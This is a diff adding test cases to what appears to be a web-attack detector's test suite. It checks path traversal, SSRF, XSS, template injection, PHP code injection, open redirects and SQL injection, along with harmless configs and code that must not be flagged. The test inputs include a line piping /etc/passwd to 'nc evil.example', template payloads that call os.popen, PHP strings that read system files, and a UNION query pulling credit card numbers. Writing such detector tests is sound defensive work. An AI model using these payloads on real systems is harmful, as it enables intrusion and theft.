@@ -456,3 +456,60 @@ t.test('scanner: a script\'s source guessed by its name; splitting: a request li
   for (const p of ['/wamp/logs/apache_error.log', '/MySQL/my.cnf', '/.bash_profile']) t.ok(q(p, 'template').includes('path_traversal'), p)
   t.same(q('see ../docs/index.md for more', 'q'), [], 'a relative link in text')
 })
+
+// ---- fifth round (2026-12-02), tuned on the spent third fresh part: each family with what it leaves alone ----
+
+t.test('JSON configurations: climbs to the project\'s own files, regex keys and package names are the document\'s', async (t) => {
+  const tsconfig = { extends: '../../../../tsconfig.test.json', include: ['./**/*'], references: [{ path: '../../' }, { path: '../../../test-utils' }] }
+  t.same(json(tsconfig), [], 'tsconfig: extends and references')
+  t.same(json({ extends: '../../../tsconfig.typetest.json', include: ['./**/*'] }), [], 'tsconfig: a flat one extending another')
+  t.same(json({ document: JSON.stringify(tsconfig) }), [], 'as a JSON text in a field')
+  t.same(json({ dependencies: { '@jest/test-result': 'link:../../../packages/jest-test-result', 'jest-environment-node': 'file:../../../packages/jest-environment-node' }, jest: { rootDir: './' } }), [], 'a manifest\'s local dependencies')
+  t.same(json({ jest: { transform: { '\\.mjs?$': '../../../packages/babel-jest' } } }), [], 'jest\'s transform')
+  t.same(json({ jest: { moduleNameMapper: { '\\.(css|less)$': 'no-such-module' } } }), [], 'a file-name pattern as a key')
+  t.same(json({ jest: { moduleFileExtensions: ['js'] }, dependencies: { 'discord.js': '11.5.1' } }), [], 'a package named like a file, its version no address')
+  // what still counts there: climbing toward a system location, to a server's file under a field named for one
+  t.same(json({ config: { path: '../../../../etc/passwd' } }), ['path_traversal'], 'nested: toward a system file')
+  t.same(json({ config: { path: '../../config.yml' } }), ['path_traversal'], 'nested: to a server\'s file under `path`')
+  t.same(json({ extends: '../../../../../windows/win.ini' }), ['path_traversal'], 'extends: toward a system file')
+  t.same(json({ id: 7, path: '/../../../', tags: ['new'] }), ['path_traversal'], 'a flat body: climbing to anything')
+  t.same(json({ id: 7, path: '../../../tmp/lol.png', tags: ['new'] }), ['path_traversal'])
+  t.same(json({ 'image.url': 'http://127.0.0.1/' }), ['ssrf'], 'a field named for a URL with a dot in its name')
+  t.same(q('11.5.1', 'webhook_url'), ['ssrf'], 'a short address under a URL field')
+})
+
+t.test('code and Markdown: block parameters, $0, an object\'s eval, comment lines, fragments cut inside a fenced block', async (t) => {
+  for (const p of ['Dir.glob(pattern) do |file|', 'routes.each do |route|', 'app = lambda { |env|', 'items.each { |a, *rest, &blk| a }', 'set :app_file, caller_files.first || $0']) t.notOk(shellInjection(p.toLowerCase()), p)
+  for (const p of ['x |id|', 'a do|id', ';$CMD', 'x || $cmd', "'|id|'"]) t.ok(shellInjection(p.toLowerCase()), p)
+  t.same(q("captured = block.binding.eval('@_out_buf')", 'snippet'), [], 'an object\'s eval method')
+  t.ok(q("eval('ls')").includes('rce'), 'eval itself still counts')
+  const ruby = "class Helpers\n  # Check if a block was defined, for example:\n  #   <script type=\"text/javascript\" src=\"/foo.js\"></script>\n  def content_for?(key)\n    blocks[key]\n  end\n\n  def engine\n    erb '<%= 1 + 1 %>'\n  end\nend"
+  t.same(json({ snippet: ruby }), [], 'a program\'s comment lines and a template in its string literals')
+  t.same(json({ snippet: ruby.replace('<%= 1 + 1 %>', "' + params[:x] + '<script>alert(1)</script>") }), ['xss'], 'markup outside its comments is judged')
+  t.same(json({ body: '# Add back the files\necho "$FILES" | xargs git add\n```\n\nThen add this hook:\n\n```sh\ngit update-index -g\n```' }), [], 'a fragment that starts inside a fenced block')
+  t.same(json({ body: '### Open source\n\nText of the page.\n\n<a class="button" href="https://tidelift.c' }), [], 'a Markdown page cut inside its last link')
+  t.same(q('<img src="//evil.example/?'), ['xss'], 'dangling markup outside Markdown')
+  t.ok(json({ body: '# Notes\n\nx; cat /etc/passwd | nc evil.example 80\n\n```sh\nls\n```' }).includes('rce'), 'what precedes a block\'s opening fence is judged')
+})
+
+t.test('redirects: another host naming the request\'s own elsewhere, invisible characters before a host', async (t) => {
+  for (const p of ['https://shop.example.com.evil.example.net', 'https://shop.example.com;.evil.example.net', 'https://shop.example.comevil.example.net', 'https://evil.example.net/shop.example.com', 'https://evil.example.net?shop.example.com', 'https://evil.example.net#shop.example.com', 'https://sshop.example.com', '\u200bevil.example.net', '\u00adevil.example.net']) t.ok(q(p, 'next').includes('open_redirect'), JSON.stringify(p))
+  for (const p of ['https://shop.example.com/account', 'https://www.shop.example.com/cart', 'https://accounts.idp.example/authorize?client_id=1&redirect_uri=https://shop.example.com/cb', 'https://partner.example.org/welcome', '/account']) t.same(q(p, 'next'), [], p)
+})
+
+t.test('SSRF: hosts with characters IDNA drops, a zero address written out; templates: FreeMarker built-ins, blind division probes', async (t) => {
+  for (const p of ['http://\u00adlocalhost/', 'http://\u200blocalhost/', 'http://\u180blocalhost/', 'http://\u2060localhost/', 'http://[0000:0000:0000:0000:0000:0000:0000:0000]/', 'http://[0:0:0:0:0:0:0:1]/']) t.ok(q(p, 'url').includes('ssrf'), JSON.stringify(p))
+  t.same(q('https://caf\u00e9.example.org/', 'url'), [], 'a public host with an accent')
+  for (const p of ["${1/((1.0==1.0)?string('1','0')?eval)}", "{{1 / ('2' + '3' == 5)}}", "{{1 / (strlen('2') == 1)}}", "${emit(eval(__import__('base64').b64decode('eA==')))}", "${__import__('os').popen('id').read()}"]) t.ok(q(p).includes('ssti'), p)
+  for (const p of ['${price}', '{{ total / 2 }}', 'Hello ${name}, 1 / 2 done', '{{ a / (b + c) }}']) t.same(q(p), [], p)
+})
+
+t.test('PHP code injection: a file built-in as a whole statement or after a breakout, the exit(md5()) marker', async (t) => {
+  for (const p of ['readfile("/etc/passwd");', 'echo file_exists("index.html");', 'chmod("index.html",0777);', 'print_r(glob("*.txt"));', "';exit(md5('x1'));//", '".exit(md5(\'x1\'));#', 'echo copy("/etc/passwd","/tmp/passwd");']) t.ok(q(p).includes('rce'), p)
+  for (const p of ['Use readfile() to send a file', 'if (file_exists("a.txt")) { echo "yes"; }', 'the copy("x") call fails', "exit(0)", 'php > readfile is slow']) t.notOk(q(p).includes('rce'), p)
+})
+
+t.test('SQL: a union whose select sits in several parentheses', async (t) => {
+  t.ok(sqlInjection("1001 union((select userid, ccnumber, '3', '4' from credit_cards))"), 'union((select')
+  t.notOk(sqlInjection('the european union ((selected members)) met'), 'a union of words')
+})
